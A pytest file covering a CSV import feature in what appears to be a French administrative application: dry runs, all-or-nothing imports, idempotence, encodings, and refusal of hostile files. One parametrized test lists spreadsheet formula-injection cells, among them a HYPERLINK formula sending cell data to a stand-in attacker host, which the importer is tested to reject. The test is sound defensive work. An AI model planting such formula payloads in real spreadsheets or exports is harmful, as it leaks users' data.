"""The CSV import (issue 21): dry run, all or nothing, idempotence, hostile files."""

import time

import pytest
from sqlalchemy import func, select

from shared.domain import users
from shared.domain.account_import import import_csv
from shared.models import AuditEvent, Circonscription, Member, Structure, User
from tests.factories import reference_data

CIRCONSCRIPTIONS = "code;nom\nC03;Bobigny\nC04;Aubervilliers\n"
ACCOUNTS = ("email;nom;role;structure;responsable;circonscriptions;institution;"
            "debut_habilitation;fin_habilitation\n"
            "ref.une@test.invalid;Référente Une;referent;ALI de Saint-Denis;oui;;;;31/12/2027\n"
            "cat.deux@test.invalid;CAT Deux;animation;;;C01 C02;;;\n"
            "dir@test.invalid;Direction;direction;;;;france_travail;2026-01-01;\n")


@pytest.fixture
def places(db_session):
    north, south, structures = reference_data(db_session)
    db_session.commit()
    return north, south, structures


def _run(db_session, vault, kind, text, *, dry_run=False, encoding="utf-8"):
    data = text.encode(encoding) if isinstance(text, str) else text
    report = import_csv(db_session, vault, kind, data, dry_run=dry_run)
    if report.applied:
        db_session.commit()
    else:
        db_session.rollback()
    return report


def _count(db_session, model) -> int:
    return db_session.scalar(select(func.count()).select_from(model))


def test_a_dry_run_lists_the_changes_and_writes_nothing(db_session, vault, places):
    report = _run(db_session, vault, "circonscriptions", "code;nom\nC03;Bobigny\nC01;St-Denis\n",
                  dry_run=True)
    assert not report.errors and not report.applied
    assert [(c.line, c.action, c.key, c.fields) for c in report.changes] == [
        (2, "création", "C03", ()), (3, "modification", "C01", ("name",))]
    assert _count(db_session, Circonscription) == 2
    assert _count(db_session, AuditEvent) == 0


def test_accounts_are_imported_once_and_the_same_file_again_changes_nothing(db_session, vault,
                                                                           places):
    north, south, structures = places
    report = _run(db_session, vault, "comptes", ACCOUNTS)
    assert report.applied and len(report.changes) == 3, report.errors
    referent = db_session.scalar(select(User).where(User.email == "ref.une@test.invalid"))
    assert referent.managed_structure_ids == {structures["ali"].id}
    assert str(referent.habilitation_ends_on) == "2027-12-31"
    facilitator = db_session.scalar(select(User).where(User.email == "cat.deux@test.invalid"))
    assert facilitator.circonscription_ids == {north.id, south.id}
    # No password anyone knows: single sign-on, or a reset by an administrator.
    assert facilitator.password_hash.startswith("!")
    audited = db_session.scalar(select(AuditEvent).where(AuditEvent.action == "import_applied"))
    assert audited.object_type == "comptes" and len(audited.object_ids.split(",")) == 3
    again = _run(db_session, vault, "comptes", ACCOUNTS)
    assert again.changes == [] and not again.applied and again.unchanged == 3
    assert _count(db_session, AuditEvent) == 1


def test_an_account_is_updated_by_its_email(db_session, vault, places):
    _run(db_session, vault, "comptes", ACCOUNTS)
    report = _run(db_session, vault, "comptes", ACCOUNTS.replace(
        "CAT Deux;animation;;;C01 C02", "CAT Deux;animation;;;C02"))
    assert [(c.key, c.fields) for c in report.changes] == [("cat.deux@test.invalid", ("role",))]
    facilitator = db_session.scalar(select(User).where(User.email == "cat.deux@test.invalid"))
    assert facilitator.circonscription_ids == {places[1].id}


def test_one_bad_line_and_nothing_is_imported_each_error_with_its_line(db_session, vault,
                                                                      places):
    text = (ACCOUNTS + "pas-une-adresse;X;referent;ALI de Saint-Denis;;;;;\n"
            "autre@test.invalid;Y;referent;Structure inconnue;;;;;\n"
            "ref.une@test.invalid;Doublon;dpo;;;;;;\n")
    report = _run(db_session, vault, "comptes", text)
    assert not report.applied and report.error_count == 3
    assert report.errors[0].startswith("Ligne 5 : colonne « email »")
    assert report.errors[1] == ("Ligne 6 : colonne « structure » : structure inconnue "
                                "(importez d'abord les structures).")
    assert report.errors[2] == "Ligne 7 : cette ligne répète la ligne 2."
    assert _count(db_session, User) == 0


def test_missing_or_unknown_columns_are_named(db_session, vault, places):
    report = _run(db_session, vault, "structures", "nom;typ\nALI;ali\n")
    assert report.errors == ["Ligne 1 : colonnes attendues pour « Structures » : nom, type "
                             "(et, si besoin : circonscription, active)."]


def test_members_and_their_suppleants_are_linked_whatever_the_order(db_session, vault,
                                                                    places):
    text = ("circonscription;nom;fonction;email;structure;statut;suppleant\n"
            "C01;Titulaire CAF;Conseillère;titulaire@caf.invalid;;permanent;Suppléante CAF\n"
            "C01;Suppléante CAF;Conseillère;;ALI de Saint-Denis;invite;\n")
    report = _run(db_session, vault, "membres", text)
    assert report.applied, report.errors
    titular = db_session.scalar(select(Member).where(Member.name == "Titulaire CAF"))
    assert titular.substitute.name == "Suppléante CAF"
    assert _run(db_session, vault, "membres", text).changes == []
    unknown = _run(db_session, vault, "membres", text.replace(";Suppléante CAF\n",
                                                              ";Personne\n"))
    assert unknown.errors == ["Ligne 2 : colonne « suppleant » : aucun membre de cette "
                              "instance ne porte ce nom (ni dans la base, ni dans le fichier)."]


# -- hostile files ---------------------------------------------------------------------------
def test_latin1_is_refused_with_the_line_of_the_first_non_utf8_byte(db_session, vault, places):
    report = _run(db_session, vault, "circonscriptions",
                  "code;nom\nC03;Bobigny\nC04;Épinay\n", encoding="latin-1")
    assert report.error_count == 1
    assert report.errors[0].startswith("Ligne 3 : le fichier n'est pas encodé en UTF-8")
    assert _count(db_session, Circonscription) == 2


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_a_byte_order_mark_utf8_or_utf16_is_read(db_session, vault, places, encoding):
    report = _run(db_session, vault, "circonscriptions", "code;nom\nC04;Épinay\n",
                  encoding=encoding)
    assert report.applied, report.errors
    assert db_session.scalar(select(Circonscription.name).where(
        Circonscription.code == "C04")) == "Épinay"


def test_utf16_without_its_mark_is_refused(db_session, vault, places):
    report = _run(db_session, vault, "circonscriptions", "code;nom\nC04;Épinay\n",
                  encoding="utf-16-le")
    assert report.errors == ["Le fichier contient des octets nuls : enregistrez-le au format "
                             "« CSV UTF-8 »."]


@pytest.mark.parametrize("cell", ['=HYPERLINK("https://evil.invalid/?"&A1;"Cliquez")',
                                  "+33 1 23", "-2+3", "@SUM(A1)", " =1+1", "\t=1",
                                  "\u00a0=HYPERLINK(1)", "\uff1dcmd|x", "\n+1"])
def test_spreadsheet_formulas_are_refused_with_line_and_column(db_session, vault, places,
                                                               cell):
    quoted = '"' + cell.replace('"', '""') + '"'
    report = _run(db_session, vault, "structures",
                  f"nom;type;circonscription\nALI de Bondy;ali;C01\n{quoted};ali;C01\n")
    assert report.errors == ["Ligne 3 : colonne « nom » : une cellule ne peut pas commencer "
                             "par « = », « + », « - » ou « @ » (formule de tableur refusée)."]
    assert _count(db_session, Structure) == 3


@pytest.mark.parametrize("line", ['C03;"Bobigny', "C03;" + "x" * 200_000])
def test_an_unclosed_quote_or_a_huge_cell_is_an_error_not_a_crash(db_session, vault, places,
                                                                  line):
    report = _run(db_session, vault, "circonscriptions", f"code;nom\n{line}\n")
    assert report.errors == ["Ligne 2 : ligne illisible (guillemets mal fermés ou cellule de "
                             "plus de 128 000 caractères)."]


def test_ten_thousand_lines_are_checked_and_imported_in_a_few_seconds(db_session, vault,
                                                                      places):
    lines = [f"d{n:05d}@test.invalid;Référent {n};referent;ALI de Saint-Denis;;;;;"
             for n in range(10_000)]
    text = ACCOUNTS.splitlines()[0] + "\n" + "\n".join(lines) + "\n"
    started = time.perf_counter()
    dry = _run(db_session, vault, "comptes", text, dry_run=True)
    checked = time.perf_counter()
    report = _run(db_session, vault, "comptes", text)
    done = time.perf_counter()
    assert len(dry.changes) == len(report.changes) == 10_000 and report.applied
    assert _count(db_session, User) == 10_000
    # Measured on a busy 2-core machine (load 7), SQLite: dry run 0.8 s, import 1.2-1.9 s;
    # PostgreSQL: 0.4 s and 4.3 s.
    print(f"10,000 rows: dry run {checked - started:.2f} s, import {done - checked:.2f} s")
    assert done - started < 10


def test_an_import_never_makes_or_changes_an_administrator_or_dpo_account(db_session, vault,
                                                                        places):
    # A file, or an API client allowed to import, would otherwise make its own administrator
    for role in ("administration", "admin", "dpo"):
        report = _run(db_session, vault, "comptes",
                      ACCOUNTS.split("\n", 1)[0] + f"\nx@test.invalid;X;{role};;;;;;\n")
        assert report.errors == ["Ligne 2 : colonne « role » : attendu referent, animation ou "
                                 "direction (les comptes d'administration et de DPO se créent "
                                 "un par un, sur leur page)."]
    admin = users.create_user(db_session, email="chef@test.invalid", full_name="Chef",
                              password="mot-de-passe-solide-2026", role=users.RoleSpec("admin"))
    db_session.commit()
    report = _run(db_session, vault, "comptes", ACCOUNTS.split("\n", 1)[0]
                  + "\nchef@test.invalid;Chef;referent;ALI de Saint-Denis;;;;;01/01/2020\n")
    assert report.errors == ["Ligne 2 : ce compte est un compte d'administration ou de DPO : "
                             "il se modifie sur sa page, jamais par un import."]
    db_session.refresh(admin)
    assert [r.role for r in admin.roles] == ["admin"] and admin.habilitation_ends_on is None
